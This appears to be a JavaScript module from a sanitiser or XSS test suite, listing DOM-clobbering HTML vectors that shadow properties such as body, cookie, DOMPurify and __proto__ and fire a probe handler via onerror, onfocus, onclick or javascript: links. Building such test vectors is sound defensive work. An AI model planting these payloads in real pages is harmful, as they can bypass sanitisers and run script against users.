import {ownWork} from './vector.js';

/** Markup whose names take the place of properties. */
export const clobbering = [
  ...ownWork('the named access rules for window, document and form in the HTML Standard', {
    'name of the document’s body': '<img name="body" src="x" onerror="hit(1)">',
    'name of the cookie': '<img name="cookie" src="x" onerror="hit(1)">',
    'name of a search': '<form name="getElementById"><input onfocus="hit(1)" autofocus></form>',
    'name of the default view': '<iframe name="defaultView" onload="hit(1)"></iframe>',
    'name of a global': '<a id="customElements" href="javascript:hit(1)">press</a>',
    'name of a global, as a form': '<form id="globalThis"><input name="location" onfocus="hit(1)" autofocus></form>',
    'name of the element’s constructor': '<a id="CcClickToCall" onclick="hit(1)">press</a>',
    'name of the sanitiser': '<a id="DOMPurify" onclick="hit(1)">press</a><a id="DOMPurify" name="sanitize">a</a>',
    'name of Lit’s own': '<a id="litHtmlVersions" onclick="hit(1)">press</a><a id="trustedTypes" href="a:1">a</a>',
    'two of one name': '<a id="config"></a><a id="config" name="url" href="javascript:hit(1)">press</a>',
    'three levels': '<form id="a"><output name="b" onclick="hit(1)">press</output></form><form id="a"></form>',
    'levels by frames': `<iframe name="a" srcdoc="<iframe name='b' srcdoc='<a id=c href=clobbered:1></a>'></iframe>" onload="hit(1)"></iframe>`,
    'form whose children are hidden':
      '<form onclick="hit(1)"><input name="childNodes"><input name="firstChild">press</form>',
    'form whose attributes are hidden':
      '<form onclick="hit(1)"><input name="attributes"><input name="removeAttribute">press</form>',
    'form whose parent is hidden':
      '<form onmouseover="hit(1)"><input name="parentNode"><input name="removeChild"></form>',
    'form whose name is hidden': '<form onclick="hit(1)"><input id="nodeName"><input id="tagName">press</form>',
    'form whose space is hidden':
      '<form onclick="hit(1)"><input name="namespaceURI"><input name="insertBefore">press</form>',
    'form whose text is hidden':
      '<form onclick="hit(1)"><img name="textContent"><img name="ownerDocument">press</form>',
    'form whose type is hidden':
      '<form onclick="hit(1)"><input name="nodeType" value="8"><input name="hasChildNodes">press</form>',
    'form whose copy is hidden':
      '<form onclick="hit(1)"><button name="cloneNode"></button><b name="remove">press</b></form>',
    'form by another’s attribute': '<form id="far" onclick="hit(1)">press</form><input form="far" name="attributes">',
    'object with a name': '<object name="documentElement" data="x" onerror="hit(1)"></object>',
    'embedded thing with a name': '<embed name="currentScript" src="about:blank" onload="hit(1)">',
    'name of a prototype':
      '<a id="__proto__" onclick="hit(1)">press</a><form name="constructor" onclick="hit(1)">a</form>',
    'name of a list': '<form name="forms" onclick="hit(1)">press</form><img name="images" src="x" onerror="hit(1)">',
    'label that presses a field':
      '<label for="reason" onclick="hit(1)">press</label><input id="reason" onclick="hit(1)">',
  }),
];
